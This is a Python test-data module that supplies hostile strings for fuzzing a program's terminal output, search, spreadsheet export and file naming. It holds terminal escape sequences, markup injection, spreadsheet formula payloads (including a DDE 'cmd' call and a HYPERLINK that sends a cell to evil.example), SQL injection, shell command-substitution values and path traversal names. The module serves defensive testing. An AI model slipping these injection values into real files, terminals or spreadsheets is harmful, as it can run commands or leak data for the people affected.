"""Hostile texts for a terminal, a search, a spreadsheet, a file system or the memory.

Random texts come from a seed, so that a failure can be repeated.
"""

import random
import re
from collections.abc import Iterator

# What a terminal would execute, hide, or show as something else.
ESCAPES = {
    "clear": "\x1b[2J",
    "colour": "\x1b[31mred",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "alternate screen": "\x1b[?1049h",
    "reset": "\x1bc",
    "device control": "\x1bP$qm\x1b\\",
    "application command": "\x1b_owned\x1b\\",
    "answer back": "\x1b[6n\x05",
    "C1 control sequence": "\x9b2J",
    "C1 command": "\x9d0;owned\x9c",
    "bell": "a\x07b",
    "backspace": "Eve\x08\x08\x08Ada",
    "carriage return": "Eve\rAda",
    "form feed": "a\x0b\x0cb",
    "shift out": "a\x0eb\x0f",
    "delete": "a\x7fb",
    "next line": "a\x85b",
    "bidi override": "\u202eadA\u202c",
    "bidi isolate": "\u2067adA\u2069",
    "bidi mark": "a\u200f\u061cb",
    "zero width": "A\u200bd\u2060a\ufeff",
    "soft hyphen": "a\xadb",
    "line separator": "a\u2028b\u2029c",
    "tags": "a\U000e0041\U000e007fb",
    "annotation": "a\ufff9b\ufffb",
}
# What a toolkit would take for markup.
MARKUP = {
    "colour": "[red]Ada[/red]",
    "at": "Bob [at] work",
    "closing": "[/]",
    "closing what is not open": "[/bold]",
    "link": "[link=https://evil.example]Ada[/link]",
    "event": "[@click=app.quit]Ada[/]",
    "escaped": "\\[red]Ada",
    "emoji": ":skull: :smile:",
    "highlight": "127.0.0.1 'Ada' 2026-11-23 None True",
    "format": "{0} {name!r} %s %(x)d $HOME",
}
# What kin's output must not contain, apart from its own styles.
RAW = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff"
    "\ufff9-\ufffb\U000e0000-\U000e007f]"
)
OWN_STYLE = re.compile(r"\x1b\[[0-9;]*m")

FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+49 30 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"here")',
    "＝1+1",
    "'=1+1",
    "''=1+1",
    "'",
    '"=1+1',
    ";=1+1",
    ",=1+1",
)

# Texts without a special meaning, whatever they look like; a book keeps them byte for byte.
NASTY = (
    "plain",
    "Zoë",
    "Zoe\u0308",
    "ZOE",
    "O'Brien",
    "O’Brien",
    "小林 さくら",
    "محمد علي",
    "נועה",
    "ß ẞ ss",
    "ı I İ i",
    "ﬁ ǆ ℡ ŉ",
    "e\u0301\u0301\u0301\u0301",
    "👩‍👩‍👧‍👦",
    "🏳️‍🌈 🇱🇹",
    "a\tb",
    "two  spaces",
    "x -- y",
    "x — y",
    "a, b; c | d",
    'it\'s "quoted" `so`',
    "back\\slash \\n \\\\",
    "100 % _ * ?",
    "' OR 1=1 --",
    "'); DROP TABLE person; --",
    "$(touch PWNED)",
    "`touch PWNED`",
    "../../etc/passwd",
    "-rf",
    "--json",
    "null",
    "None",
    "0",
    "1e309",
    "{}",
    "[]",
    "<script>alert(1)</script>",
    "&amp; &#0;",
    "AND OR NOT NEAR",
    '"*" ^a -b (c:d)',
    *ESCAPES.values(),
    *MARKUP.values(),
    *(each for each in FORMULAS if each.strip()),
)
# The same with line breaks and spaces at the ends: only for texts that are kept as they are.
NASTY_TEXTS = (
    *NASTY,
    "one\ntwo",
    "one\r\ntwo\r\n",
    "one\rtwo",
    "ends with a line\n",
    "ends with spaces  \t ",
    "  begins with spaces",
    "\ufeffbegins with a mark",
    "\u2028",
    "x" * 500,
    "long " * 400,
    "no-day: tea",
    "http://example.org/#a?b",
)
# What a book cannot store, and what is empty.
UNSTORABLE = ("a\0b", "\0", "\udcff", "a\ud800b")
EMPTY = ("", " ", "\t \n")

_SEARCH_SIGNS = "\"*^-+:(){}[]<>~%_\\'&|!,;.?/@#$=` \t\n\0"
_SEARCH_WORDS = (
    *("AND", "OR", "NOT", "NEAR", "NEAR(", "rowid:", "words:", "MATCH", "bm25(search)", "a" * 300),
    *(
        "kiln",
        "pottery",
        "maya",
        "zoë",
        "陶芸",
        "½",
        "①",
        "ﬁ",
        "e\u0301",
        "\u0301",
        "👩‍👩‍👧",
        "\udcff",
    ),
    *ESCAPES.values(),
)


def searches(number: int, seed: int = 1) -> Iterator[str]:
    """Yield random strings of characters with a meaning in a search, words, and any other characters."""
    chance = random.Random(seed)
    for _ in range(number):
        parts = [_search_part(chance) for _ in range(chance.randrange(1, 9))]
        yield chance.choice(("", " ")).join(parts)


def _search_part(chance: random.Random) -> str:
    kind = chance.random()
    if kind < 0.45:
        return "".join(chance.choices(_SEARCH_SIGNS, k=chance.randrange(1, 5)))
    if kind < 0.75:
        return chance.choice(_SEARCH_WORDS)
    return "".join(
        chr(chance.choice((chance.randrange(0x20, 0x7F), chance.randrange(0x110000))))
        for _ in range(chance.randrange(1, 6))
    )


# Names that a file system, or a program that makes file names of names, could stumble over.
FILE_NAMES = (
    *("..", ".", "../evil", "../../../../tmp/evil", "/etc/passwd", "//evil", "a/b", "a\\b", "..\\evil"),
    *("~", "~root", "$HOME", "CON", "con.txt", "NUL", "AUX", "COM1", "LPT9.md", "aux.json", "PRN "),
    *(".hidden", "...", "name.", "name ", " name", "name...", "-rf", "--to", "a:b", "C:", "C:\\evil"),
    *("a*b", "a?b", "a|b", "a<b>c", 'a"b', "a\nb", "a\rb", "a\tb", "a\x7fb", "%2e%2e%2fevil", "%00"),
    *("x" * 300, "é" * 200, "👩‍👩‍👧‍👦" * 40, "\u202egpj.exe", "a\u2215b", "a\uff0fb", "．．／evil", "e\u0301", "é"),
    *("E\u0301", "ß", "ẞ", "SS", "İ", "ı", "\u200b", "\ufeff", "\u2028", "\U000e0041", "a\u0338b", "index"),
    *("desktop.ini", ".git", ".ssh/authorized_keys", "con", "Thumbs.db", "a%00.md", "file://evil", "&&", ";ls"),
)  # fmt: skip


def file_names(number: int, seed: int = 1) -> Iterator[str]:
    """Yield hostile names without NUL: those above, then two or three of them joined."""
    chance = random.Random(seed)
    for at in range(number):
        if at < len(FILE_NAMES):
            yield FILE_NAMES[at]
        else:
            parts = chance.choices(FILE_NAMES, k=chance.randrange(2, 4))
            odd = chr(chance.randrange(0x20, 0x2FFF))
            yield chance.choice(("", "/", " ", ".", odd)).join(parts)
